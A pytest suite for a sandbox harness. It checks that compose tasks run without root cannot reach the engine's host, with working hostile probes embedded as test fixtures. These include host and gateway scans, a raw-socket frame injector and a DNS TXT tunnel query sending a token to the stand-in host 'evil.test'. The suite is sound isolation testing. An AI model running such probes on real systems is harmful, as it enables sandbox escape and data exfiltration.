"""Without root, a compose task's agent and its sidecars reach nothing of the engine's host.

Where the harness is not root on the engine's host (a docker-group user, the rootless
engine's own user, the CI image with the socket mounted), no host rule can shield a compose
network: the engine makes it ``internal``, with no address on its bridge and no IPv6, the
sidecars run without ``NET_RAW``, and the main container's namespace (its holder's) joins
it, with rules that reach the sidecars in every phase (``sandbox/docker/compose.py``).

Attacked through the real CLI, judged from outside. The task is hostile on both sides:

- its sidecar ``kv``, which the task's author wrote, probes the host as soon as it starts:
  TCP and UDP to a host listener on ``0.0.0.0`` and ``::`` through its network's gateway,
  docker0, the host's primary address and slirp's host (``10.0.2.2``), and a hand-made
  Ethernet frame to the host's primary address if it can open a packet socket;
- the ``public`` agent probes the same listener through every gateway of its namespace,
  docker0, the host's address and slirp's host, plus a private address routed into a
  namespace the test makes, and reaches a public-like address there (the control) and the
  sidecar by its name (the control);
- the ``no-network`` verifier reaches the sidecar again, and not the public-like address.

The listener and the public namespace's servers are the verdict; the record must say the
engine guard held (read back from the engine), that the sidecars had no internet, and the
sidecar container must have run without ``NET_RAW`` (inspected from outside).
"""

from __future__ import annotations

import json
import secrets
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.ci_image import ci_cli, ci_python, ci_workdir
from support.compose_tasks import LoopbackResolver, kv_compose
from support.net import Listener, primary_addresses
from support.netns import PublicNet
from support.probes import PROXY_CLIENT
from support.public_probe import ROOTFUL_HOST, private_address, read_records, token_packets
from support.users import (
    ROOTLESS_HOST,
    ROOTLESS_USER,
    docker_group_user,
    rootless_engine,
    run_args,
    user_harness,
)

pytestmark = [pytest.mark.docker, pytest.mark.root]

BASE = "harness/base:bookworm"
#: A name the engine's host resolves (Debian's mirror, which this machine's resolver
#: answers), looked up by the public agent; the closed verifier asks for a subdomain.
RESOLVABLE = "deb.debian.org"

#: The sidecar: an HTTP server on 8080 (``/report``: its own probe, once done), which
#: first probes every target of ``targets.json`` and its network's gateway.
SIDECAR = r"""
import fcntl, json, socket, struct, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

token, port, targets = json.load(open("/srv/targets.json"))
report = {"done": False, "tcp": {}}

def own_gateway():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        req = struct.pack("256s", b"eth0")
        address = struct.unpack("!I", fcntl.ioctl(s.fileno(), 0x8915, req)[20:24])[0]
        mask = struct.unpack("!I", fcntl.ioctl(s.fileno(), 0x891B, req)[20:24])[0]
        return socket.inet_ntoa(struct.pack("!I", (address & mask) + 1))
    finally:
        s.close()

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def raw_frame(host):
    # A packet socket needs NET_RAW: an IPv4/UDP frame to every MAC on the bridge.
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    except OSError as exc:
        return type(exc).__name__
    s.bind(("eth0", 0))
    src_mac = s.getsockname()[4]
    payload = ("RAW" + token).encode()
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    src = socket.inet_aton(own_gateway()[:-1] + "9")
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, src,
                         socket.inet_aton(host))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    s.send(b"\xff" * 6 + src_mac + b"\x08\x00" + header + udp)
    s.close()
    return "sent"

def probe():
    hosts = targets + [own_gateway()]
    report["targets"] = hosts
    for host in hosts:
        t = socket.socket(); t.settimeout(3)
        try:
            t.connect((host, port)); t.sendall(("SIDECAR" + token).encode())
            report["tcp"][host] = "CONNECTED"
        except OSError as exc:
            report["tcp"][host] = type(exc).__name__
        finally:
            t.close()
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            u.sendto(("SIDECAR" + token).encode(), (host, port))
        except OSError:
            pass
        u.close()
    try:
        v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        v6.sendto(("SIDECAR" + token).encode(), ("ff02::1%eth0", port))
        report["ipv6"] = "sent"
    except OSError as exc:
        report["ipv6"] = type(exc).__name__
    report["raw"] = raw_frame(targets[0])
    report["done"] = True

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps(report).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass

threading.Thread(target=probe, daemon=True).start()
ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""

COMPOSE = kv_compose()

#: The agent (``python3 - TOKEN PORT TARGETS``): every gateway of its namespace is a
#: target too; the sidecar's report is kept as ``kv.json``.
AGENT = r"""
import fcntl, json, socket, struct, sys, time, urllib.request
token, port, targets = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3])
def ifaddr(name, request):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        packed = fcntl.ioctl(s.fileno(), request, struct.pack("256s", name.encode()))
        return struct.unpack("!I", packed[20:24])[0]
    except OSError:
        return None
    finally:
        s.close()
with open("/proc/net/dev") as fh:
    names = sorted(l.split(":")[0].strip() for l in fh.readlines()[2:])
for name in names:
    address, mask = ifaddr(name, 0x8915), ifaddr(name, 0x891B)
    if name != "lo" and address is not None and mask is not None:
        gateway = socket.inet_ntoa(struct.pack("!I", (address & mask) + 1))
        targets.append(["gateway-" + name, gateway, port])
out = {"interfaces": names, "tcp": {}}
for name, host, target_port in targets:
    s = socket.socket(); s.settimeout(3)
    try:
        s.connect((host, target_port)); s.sendall(token.encode()); out["tcp"][name] = "tcp"
    except OSError as exc:
        out["tcp"][name] = type(exc).__name__
    finally:
        s.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(token.encode(), (host, target_port))
    except OSError:
        pass
def lookup(name):
    try:
        return socket.gethostbyname(name)
    except OSError as exc:
        return type(exc).__name__
# Names go to the trial's own responder (never the engine's resolver); a sidecar's name is
# a host entry.
out["dns"] = {"public": lookup(sys.argv[4]), "kv": lookup("kv")}
report = {}
for _ in range(90):
    try:
        report = json.load(urllib.request.urlopen("http://kv:8080/report", timeout=5))
    except OSError as exc:
        out["kv"] = type(exc).__name__
        time.sleep(1)
        continue
    out["kv"] = "reached"
    if report.get("done"):
        break
    time.sleep(1)
json.dump(out, open("net.json", "w"))
json.dump(report, open("kv.json", "w"))
"""

VERIFIER = r"""
import json, os, socket, sys, urllib.request
token, public, name = sys.argv[1], sys.argv[2], sys.argv[3]
def lookup(name):
    try:
        return socket.gethostbyname(name)
    except OSError as exc:
        return type(exc).__name__
# No network: the embedded DNS still answers a sidecar's name, and nothing beyond it
# (its forwarding leaves from the trial's own namespace, and is refused there).
dns = {"public": lookup(token + "." + name), "kv": lookup("kv")}
reached_public = False
s = socket.socket(); s.settimeout(3)
try:
    s.connect((public, 8443)); s.sendall(("VERIFIER" + token).encode()); reached_public = True
except OSError:
    pass
try:
    urllib.request.urlopen("http://kv:8080/report", timeout=5).read(); kv = True
except OSError:
    kv = False
net = json.load(open("net.json"))
print(json.dumps({"verifier_kv": kv, "verifier_public": reached_public, "dns": dns, "agent": net}))
ok = net["tcp"].get("public") == "tcp" and net.get("kv") == "reached" and kv
ok = ok and not reached_public and dns["public"] == "gaierror" and "." in dns["kv"]
open(os.environ["HARNESS_VERIFIER_DIR"] + "/reward.txt", "w").write("1" if ok else "0")
"""


def _task(root: Path, token: str, port: int, sidecar_targets: list[str],
          agent_targets: list[tuple[str, str, int]], public: str, name: str,
          task_name: str) -> Path:  # fmt: skip
    task = root / "tasks" / "compose"
    (task / "tests").mkdir(parents=True)
    (task / "environment" / "kv").mkdir(parents=True)
    (task / "task.toml").write_text(
        f'[task]\nname = "{task_name}"\n'
        '[agent]\ntimeout_sec = 180\nnetwork_mode = "public"\n'
        '[verifier]\ntimeout_sec = 60\nnetwork_mode = "no-network"\n'
    )
    (task / "environment" / "Dockerfile").write_text(f"FROM {BASE}\n")
    (task / "environment" / "docker-compose.yaml").write_text(COMPOSE)
    kv = task / "environment" / "kv"
    (kv / "Dockerfile").write_text(
        f'FROM {BASE}\nCOPY kv.py targets.json /srv/\nCMD ["python3", "/srv/kv.py"]\n'
    )
    (kv / "kv.py").write_text(SIDECAR)
    (kv / "targets.json").write_text(json.dumps([token, port, sidecar_targets]))
    (task / "instruction.md").write_text(
        f"python3 - {token} {port} '{json.dumps(agent_targets)}' {name} <<'AGENT'\n{AGENT}AGENT\n"
    )
    (task / "tests" / "verify.py").write_text(VERIFIER)
    (task / "tests" / "test.sh").write_text(f"python3 /tests/verify.py {token} {public} {name}\n")
    return root / "tasks"


class _SidecarCaps:
    """Inspects, from outside, each sidecar container of a task while it exists."""

    def __init__(self, docker_host: str, task: str) -> None:
        self.docker_host = docker_host
        self.task = task
        self.seen: dict[str, dict[str, Any]] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)

    def __enter__(self) -> _SidecarCaps:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=10)

    def _loop(self) -> None:
        docker = ["docker", "-H", self.docker_host]
        while not self._stop.is_set():
            ids = subprocess.run(
                [*docker, "ps", "-q", "--filter", "label=com.docker.compose.service=kv",
                 "--filter", f"label=org.harness.task={self.task}"],
                capture_output=True, text=True, timeout=30,
            ).stdout.split()  # fmt: skip
            for cid in ids:
                if cid in self.seen:
                    continue
                done = subprocess.run(
                    [*docker, "inspect", cid], capture_output=True, text=True, timeout=30
                )
                if done.returncode == 0:
                    (attrs,) = json.loads(done.stdout)
                    self.seen[cid] = attrs
            self._stop.wait(0.5)


@pytest.fixture
def ci_dir() -> Iterator[Path]:
    with ci_workdir() as work:
        yield work


@pytest.fixture
def public_net(tmp_path: Path) -> Iterator[PublicNet]:
    with PublicNet(tmp_path) as net:
        yield net


@pytest.mark.parametrize(
    ("where", "runtime"),
    [("docker-group", None), ("docker-group", "runsc"), ("rootless", None), ("ci-image", None)],
)
def test_without_root_a_compose_task_reaches_its_sidecar_and_nothing_of_the_host(
    where: str, runtime: str | None, public_net: PublicNet, ci_dir: Path
) -> None:
    user = None
    if where == "rootless":
        host, user = rootless_engine(), user_harness(ROOTLESS_USER)
        assert host == ROOTLESS_HOST
    else:
        host = ROOTFUL_HOST
        if where == "docker-group":
            user = user_harness(docker_group_user())
    public = public_net.route()
    private = public_net.route(private_address(232))
    token = secrets.token_hex(8)
    work = user.workdir() if user is not None else ci_dir
    with Listener(ipv6=True) as listener:
        primary = primary_addresses()["ipv4"]
        hosts = [primary, "172.17.0.1", "10.0.2.2"]
        agent_targets = [(name, address, listener.port) for name, address in
                         (("host-primary", primary), ("docker0", "172.17.0.1"),
                          ("rootless-host", "10.0.2.2"))]  # fmt: skip
        agent_targets += [("public", public, 8443), ("private", private, 8443)]
        task_name = f"noroot/compose-{token[:6]}"  # its sidecar alone is inspected
        tasks = _task(work, token, listener.port, hosts, agent_targets, public, RESOLVABLE,
                      task_name)  # fmt: skip
        args = [*run_args(tasks, work / "out", "--agent", "command", "--agent-cmd",
                          "bash {instruction_file}")]  # fmt: skip
        if runtime is not None:
            args += ["--runtime", runtime]
        with _SidecarCaps(host, task_name) as sidecars:
            if user is None:
                result = ci_cli(work, *args, timeout=900)
            else:
                user.give(work)
                result = user.cli(*args, docker_host=host, timeout=900)
        host_got = token_packets(listener, token)
    assert result.returncode == 0, result.stderr[-3000:]
    (record,) = read_records(work / "out")
    seen = public_net.seen()
    # From outside: nothing of the host heard the agent or the sidecar; the control did.
    assert not host_got, host_got
    assert f"tcp8443 {token}" in seen or token in seen, seen
    assert "VERIFIER" + token not in seen, seen
    assert "SIDECAR" + token not in seen, seen
    assert record["status"] == "completed" and record["reward"] == 1, record
    compose = record["sandbox"]["compose"]
    guard = compose["host_guard"]
    assert guard["kind"] == "engine" and guard["verified"], compose
    assert compose["sidecar_internet"] is False and compose["internal"] is True, compose
    assert record["sandbox"]["egress"] == "namespace", record["sandbox"]
    assert record["sandbox"]["runtime"] == (runtime or "runc"), record["sandbox"]
    # The sidecar ran without NET_RAW, as its container said while it ran.
    assert sidecars.seen, "the sidecar was never seen on the engine"
    for attrs in sidecars.seen.values():
        dropped = {c.removeprefix("CAP_") for c in attrs["HostConfig"].get("CapDrop") or []}
        assert "NET_RAW" in dropped, attrs["HostConfig"]
    (run_dir,) = [p for p in (work / "out").iterdir() if p.is_dir()]
    workspace = run_dir / "trials" / record["id"] / "workspace"
    net = json.loads((workspace / "net.json").read_text())
    assert net["kv"] == "reached" and net["tcp"]["public"] == "tcp", net
    assert not [k for k, v in net["tcp"].items() if v == "tcp" and k != "public"], net
    report = json.loads((workspace / "kv.json").read_text())
    # DNS: the sidecar's name resolves; the public name was asked of the trial's own
    # responder, never of the engine's resolver. Here the responder resolves it to this
    # machine's TLS-intercepting proxy, a reserved address it never hands out (refused,
    # and said so as the trial's event); in the CI image, whose harness has no network
    # (scripts/ci-image), it resolves nothing (docs/deployments.md).
    assert net["dns"]["kv"].count(".") == 3, net
    dns_events = [e for e in record["events"] if e.get("protocol") == "dns"]
    asked = {(e["phase"], e.get("host")) for e in dns_events}
    if where == "ci-image":
        assert net["dns"]["public"] == "gaierror", net
    elif net["dns"]["public"].count(".") != 3:
        assert ("agent", RESOLVABLE) in asked, dns_events
    assert report.get("done"), report
    assert report["raw"] != "sent", report  # no packet socket (judged outside too)
    assert not any(v == "CONNECTED" for v in report["tcp"].values()), report
    events = record.get("events", [])
    refused = {e.get("refused") for e in events if e["type"] == "network_refused"}
    assert refused & {"gateway", "host", "host-subnet"}, refused
    assert "private" in refused, refused


#: The allowlist agent's and the closed verifier's probe (``python3 -c "$PROBE"``).
ALLOWLIST_PROBE = (
    PROXY_CLIENT
    + r"""
out, public, token = {}, os.environ["PUB"], os.environ["TOKEN"]
def resolve(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)})
    except socket.gaierror as exc:
        return "gaierror %s" % exc.errno
out["resolver"] = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
out["no_proxy"] = os.environ.get("NO_PROXY", "")
out["kv"] = get("http://kv:8080/")
# The engine's resolver asked directly (port 53 goes to the relay; a TXT tunnel there).
out["dns-embedded-unlisted"] = dns("127.0.0.11", token + ".tunnel.evil.test", 16)
out["dns-listed"] = resolve("pub.test")
if os.environ["ROLE"] == "verifier":
    out["dns-public-other"] = resolve("evil.test")
else:
    out["dns-unlisted"] = resolve(token + ".evil.test")
    out["http"] = get("http://pub.test/")
    out["http-unlisted"] = get("http://evil.test/")
    out["raw-public"] = raw(public, 8443)
print(json.dumps(out))
"""
)

#: Runs as the user on the harness of its own venv: one compose trial through the docker
#: backend (the CLI cannot pin a name, which the allowlist needs), as JSON.
ALLOWLIST_DRIVER = r"""
import json, secrets, sys
from pathlib import Path
import docker
from sandbox.backend import PhaseRequest, SandboxSpec
from sandbox.docker.backend import DockerSandbox
from sandbox.docker.images import ImageResolver
from sandbox.docker.runtime import DockerRuntime
from sandbox.environment import FIXED_PATH
from sandbox.network_policy import NetworkPolicy

config = json.load(sys.stdin)
client = docker.from_env(timeout=300)
label = "noroot-compose-" + secrets.token_hex(4)
runtime = DockerRuntime(client, ImageResolver(client), run_label=label)
runtime.egress.hosts = config["hosts"]
spec = SandboxSpec(
    trial_id="noroot-compose-" + secrets.token_hex(3), image=config["image"],
    task_name="noroot-compose", compose_file=Path(config["compose"]), allow_internet=True,
    networks={"agent": NetworkPolicy(mode="allowlist", allowed_hosts=("pub.test",)),
              "verifier": NetworkPolicy(mode="public")},
)
out = {"host_filter": runtime.host_filter()}
sandbox = DockerSandbox(spec, runtime)
try:
    sandbox.start()
    out["facts"] = sandbox.describe()
    for role in ("agent", "verifier"):
        env = {"PATH": FIXED_PATH, "PROBE": config["probe"], "ROLE": role, **config["env"]}
        result = sandbox.run_phase(PhaseRequest(
            role=role, argv=["bash", "-c", 'python3 -c "$PROBE"'], env=env, timeout_sec=120))
        logs = sandbox.paths.logs + "/" + role
        data, _ = sandbox.read_file(logs + ".stdout", max_bytes=1 << 16)
        errors, _ = sandbox.read_file(logs + ".stderr", max_bytes=1 << 16)
        lines = [l for l in (data or b"").decode().splitlines() if l.startswith("{")]
        out[role] = json.loads(lines[-1]) if lines else {
            "exit": result.exit_code, "stderr": (errors or b"").decode()[-2000:]}
    out["events"] = sandbox.network_events()
finally:
    sandbox.stop()
    runtime.close()
print(json.dumps(out))
"""

KV_HTTP = """\
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"KV-OK"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""


@pytest.mark.parametrize("where", ["docker-group", "rootless", "ci-image"])
def test_without_root_a_compose_allowlist_phase_reaches_its_hosts_and_its_sidecar_only(
    where: str, public_net: PublicNet, ci_dir: Path
) -> None:
    """A compose task's ``allowlist`` agent, then its ``public`` verifier, without root.

    The namespace's resolver is the engine's (``127.0.0.11``): its port 53 goes to the
    trial's relay (listed names only), and whatever the engine forwards leaves from the
    trial's own namespace, never from the engine's host: a resolver on the host's loopback
    hears nothing. The listed host answers through the proxy, the sidecar directly.
    """
    user = None
    if where == "rootless":
        host, user = rootless_engine(), user_harness(ROOTLESS_USER)
    elif where == "docker-group":
        host, user = ROOTFUL_HOST, user_harness(docker_group_user())
    work = user.workdir() if user is not None else ci_dir
    token = secrets.token_hex(8)
    environment = work / "task" / "environment"
    (environment / "kv").mkdir(parents=True)
    (environment / "kv" / "Dockerfile").write_text(
        f'FROM {BASE}\nCOPY kv.py /srv/\nCMD ["python3", "/srv/kv.py"]\n'
    )
    (environment / "kv" / "kv.py").write_text(KV_HTTP)
    (environment / "docker-compose.yaml").write_text(COMPOSE)
    config = {
        "hosts": {"pub.test": [public_net.ip], "evil.test": [public_net.ip]},
        "image": BASE,
        "compose": str(environment / "docker-compose.yaml"),
        "probe": ALLOWLIST_PROBE,
        "env": {"PUB": public_net.ip, "TOKEN": token},
    }
    before = public_net.seen()
    resolver = LoopbackResolver()
    try:
        if user is None:
            # The CI image on a network: its harness serves the trial's proxy and DNS.
            done = ci_python(work, ALLOWLIST_DRIVER, json.dumps(config))
        else:
            user.give(work)
            done = user.python(
                ALLOWLIST_DRIVER, json.dumps(config), docker_host=host, tmpdir=work / "tmp"
            )
    finally:
        resolver.close()
    assert done.returncode == 0, done.stderr[-4000:]
    out = json.loads(done.stdout.strip().splitlines()[-1])
    seen = public_net.seen()[len(before) :]
    agent, verifier = out["agent"], out["verifier"]
    assert out["host_filter"] is False, out
    # From outside: the host's loopback resolver heard nothing; the public side saw the
    # listed request alone.
    assert not [q for q in resolver.got if token.encode() in q], resolver.got
    assert "Host: pub.test" in seen and "evil.test" not in seen and token not in seen, seen
    facts = out["facts"]
    assert facts["egress"] == "namespace" and facts["compose"]["host_guard"]["kind"] == "engine"
    # Inside: the engine's resolver, its port 53 the relay's; the sidecar directly.
    assert agent["resolver"] == ["127.0.0.11"], agent
    assert "kv" in agent["no_proxy"].split(","), agent
    assert agent["kv"] == "KV-OK" and verifier["kv"] == "KV-OK", out
    assert agent["dns-listed"] == [public_net.ip], agent
    assert agent["http"] == "PUBLIC-OK host=pub.test", agent
    assert agent["http-unlisted"] == "HTTP 403", agent
    assert agent["raw-public"] != "CONNECTED", agent
    assert str(agent["dns-unlisted"]).startswith("gaierror"), agent
    # The public verifier resolves through the same relay, every name (the control).
    assert verifier["dns-listed"] == [public_net.ip], verifier
    assert verifier["dns-public-other"] == [public_net.ip], verifier
    for phase in (agent, verifier):
        answer = phase["dns-embedded-unlisted"]
        assert not (isinstance(answer, list) and answer[1] > 0), phase
